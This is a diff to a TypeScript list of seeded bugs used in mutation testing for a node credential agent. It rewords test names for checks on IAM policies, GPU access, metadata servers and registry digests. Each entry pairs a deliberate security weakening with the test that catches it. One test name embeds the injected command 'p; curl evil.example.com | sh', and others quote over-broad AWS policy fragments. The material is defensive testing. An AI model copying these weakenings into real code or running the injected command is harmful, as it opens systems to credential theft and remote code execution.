@@ -10,7 +10,7 @@ export const takenControlPlane: readonly SeededBug[] = [
     replace: "answer.status !== 200 || answer.header('metadata-flavor') !== 'Google'",
     by: 'answer.status !== 200',
     testFile: `${credentialPath}/secret/google/secret-manager.test.ts`,
-    test: 'who the node is > who answers without Google’s header is no metadata server',
+    test: 'the identity of the node > is not taken from a server that answers without Google’s header',
   },
   {
     name: 'leave the GPUs to NVIDIA’s runtime',
@@ -19,7 +19,7 @@ export const takenControlPlane: readonly SeededBug[] = [
     replace: ', ...(allowed.gpus === null && noAccelerators)',
     by: '',
     testFile: `${agent}/workload/container-options.test.ts`,
-    test: 'S7: GPUs are the node’s own to give > where its file gives none, neither an image nor an order has the engine’s runtime give them',
+    test: 'S7: only the node gives out GPUs > if its file gives none, neither an image nor an order makes the engine’s runtime give any',
   },
   {
     name: 'tell Habana’s runtime what only NVIDIA’s takes for none',
@@ -28,7 +28,7 @@ export const takenControlPlane: readonly SeededBug[] = [
     replace: "HABANA_VISIBLE_DEVICES: 'none'",
     by: "HABANA_VISIBLE_DEVICES: 'void'",
     testFile: `${agent}/workload/container-options.test.ts`,
-    test: 'S7: GPUs are the node’s own to give > where its file gives none, neither an image nor an order has the engine’s runtime give them',
+    test: 'S7: only the node gives out GPUs > if its file gives none, neither an image nor an order makes the engine’s runtime give any',
   },
   {
     name: 'let a policy that was named be absent',
@@ -38,7 +38,7 @@ export const takenControlPlane: readonly SeededBug[] = [
       "  if (named !== null) throw problem('POLICY_MISSING', { path: file, reason: 'it was named as the policy' })\n",
     by: '',
     testFile: `${credentialPath}/policy/read-node-policy.test.ts`,
-    test: 'S7: the file of the node > that was named and is not there is refused, and means no defaults',
+    test: 'S7: the file of the node > that was named but is missing is rejected, rather than meaning defaults',
   },
   {
     name: 'forget that there was a policy',
@@ -47,7 +47,7 @@ export const takenControlPlane: readonly SeededBug[] = [
     replace: 'if (before?.exists)',
     by: 'if (before?.exists === null)',
     testFile: `${credentialPath}/policy/read-node-policy.test.ts`,
-    test: 'S7: the file of the node > that the agent of this node had when it last started is refused where it is gone, and may be empty instead',
+    test: 'S7: the file of the node > that the agent of this node had when it last started is rejected if it is gone, and may be empty instead',
   },
   {
     name: 'make a host of any region',
@@ -56,7 +56,7 @@ export const takenControlPlane: readonly SeededBug[] = [
     replace: 'known === null || (region !== null && known !== partition)',
     by: 'known === undefined',
     testFile: `${credentialPath}/secret/aws/secrets-manager.test.ts`,
-    test: 'S21: the region that becomes a host > is never one outside the table, nor one of another partition',
+    test: 'S21: the region that becomes a host > is never outside the table, nor in another partition',
   },
   {
     name: 'report why, in words',
@@ -66,7 +66,7 @@ export const takenControlPlane: readonly SeededBug[] = [
     by: `const { reason } = this.facts
     return { code: this.code, facts: { ...facts, ...(reason !== undefined && { reason }) } }`,
     testFile: `${contract}/problems/problem.test.ts`,
-    test: 'a report always fits its schema, and carries no fact that is free text (S6)',
+    test: 'a report always matches its schema, and carries no free text as a fact (S6)',
   },
   {
     name: 'keep what the parser said of a secret',
@@ -78,7 +78,7 @@ export const takenControlPlane: readonly SeededBug[] = [
     by: `catch (error) {
     throw Object.assign(notJson(), { cause: error })`,
     testFile: `${credentialPath}/match/login-document.test.ts`,
-    test: 'what a refusal tells > S5, S6: no part of the document is in the problem: case 1',
+    test: 'a rejected document > S5, S6: puts no part of the document into the problem: case 1',
   },
   {
     name: 'use a listed secret for any registry',
@@ -105,7 +105,7 @@ export const takenControlPlane: readonly SeededBug[] = [
     replace: 'policy.allowed_secrets.some((',
     by: 'policy.allowed_secrets.every((',
     testFile: `${agent}/doctor/warnings.test.ts`,
-    test: 'S7: one sentence for each way to a password that a taken control plane would have > no list, or an entry for any registry',
+    test: 'S7: one sentence for each way in which a compromised control plane could get a password > for no list, or an entry for any registry',
   },
   {
     name: 'print a command in the name of a project',
@@ -114,7 +114,7 @@ export const takenControlPlane: readonly SeededBug[] = [
     replace: 'project: z.string().regex(/^[a-z0-9][a-z0-9.:-]{0,127}$/)',
     by: 'project: z.string().regex(/^[a-z0-9][ -~]{0,127}$/)',
     testFile: `${cli}/commands/policy/hostile-policy.test.ts`,
-    test: 'S7: a policy for Google Cloud is not taken > with {"project":"p; curl evil.example.com | sh"}',
+    test: 'S7: rejects a policy for Google Cloud > with {"project":"p; curl evil.example.com | sh"}',
   },
   {
     name: 'grant the nodes any action',
@@ -123,7 +123,7 @@ export const takenControlPlane: readonly SeededBug[] = [
     replace: "Action: z.enum(['secretsmanager:GetSecretValue', 'kms:Decrypt'])",
     by: "Action: Plain as unknown as z.ZodEnum<{ 'kms:Decrypt': 'kms:Decrypt' }>",
     testFile: `${cli}/commands/policy/hostile-policy.test.ts`,
-    test: 'S7: a policy for AWS is not taken > where the nodes’ role may do {"Action":"iam:PassRole"}',
+    test: 'S7: rejects a policy for AWS > whose node role may do {"Action":"iam:PassRole"}',
   },
   {
     name: 'grant the nodes any secret',
@@ -132,7 +132,7 @@ export const takenControlPlane: readonly SeededBug[] = [
     replace: ': secretArn.test(arn)',
     by: ": arn !== ''",
     testFile: `${cli}/commands/policy/hostile-policy.test.ts`,
-    test: 'S7: a policy for AWS is not taken > where the nodes’ role may do {"Resource":"*"}',
+    test: 'S7: rejects a policy for AWS > whose node role may do {"Resource":"*"}',
   },
   {
     name: 'decrypt for another service',
@@ -141,7 +141,7 @@ export const takenControlPlane: readonly SeededBug[] = [
     replace: 'z.array(z.string().regex(/^secretsmanager\\.',
     by: 'z.array(z.string().regex(/^[a-z0-9]+\\.',
     testFile: `${cli}/commands/policy/hostile-policy.test.ts`,
-    test: 'S7: a policy for AWS is not taken > where the nodes’ role may decrypt under the condition {"StringEquals":{"kms:ViaService":["s3.us-east-1.amazonaws.com"]}}',
+    test: 'S7: rejects a policy for AWS > whose node role may decrypt under the condition {"StringEquals":{"kms:ViaService":["s3.us-east-1.amazonaws.com"]}}',
   },
   {
     name: 'let in another role than the nodes’',
@@ -150,7 +150,7 @@ export const takenControlPlane: readonly SeededBug[] = [
     replace: 'statement.Principal?.AWS === role_arn && may(statement)',
     by: 'may(statement)',
     testFile: `${cli}/commands/policy/hostile-policy.test.ts`,
-    test: 'S7: a policy that lets in another than the one it is for is not taken > on a secret of AWS, or its key: {"Principal":{"AWS":"arn:aws:iam::999999999999:role/villain"}}',
+    test: 'S7: rejects a policy that grants access to anyone else > on a secret of AWS, or its key: {"Principal":{"AWS":"arn:aws:iam::999999999999:role/villain"}}',
   },
   {
     name: 'let the key of a secret decrypt others',
@@ -159,7 +159,7 @@ export const takenControlPlane: readonly SeededBug[] = [
     replace: 'every((arn) => arn === secret)',
     by: 'some((arn) => arn === secret)',
     testFile: `${cli}/commands/policy/hostile-policy.test.ts`,
-    test: 'S7: a policy that lets in another than the one it is for is not taken > nor one that lets its key decrypt more than that secret',
+    test: 'S7: rejects a policy that grants access to anyone else > or lets its key decrypt more than that secret',
   },
   {
     name: 'run what the tag points to now',
@@ -168,7 +168,7 @@ export const takenControlPlane: readonly SeededBug[] = [
     replace: 'wanted.digest ?? wanted.image.digest ?? (await headDigest(session, wanted, signal))',
     by: '(await headDigest(session, wanted, signal)) ?? wanted.digest ?? wanted.image.digest',
     testFile: `${credentialPath}/registry/registry-client.test.ts`,
-    test: 'an honest registry > a digest that is given decides, whatever the tag points to',
+    test: 'an honest registry > uses a given digest, whatever the tag points to',
   },
   {
     name: 'take any bytes for those of a digest',
@@ -177,6 +177,6 @@ export const takenControlPlane: readonly SeededBug[] = [
     replace: 'if (answer.digest !== null && answer.digest !== found) throw corrupt(context)',
     by: '',
     testFile: `${credentialPath}/registry/hostile-registry.test.ts`,
-    test: 'S2: a hostile registry > S17: other bytes than the digest says are corrupt',
+    test: 'S2: a hostile registry > S17: is reported as corrupt if its bytes do not match the digest',
   },
 ]
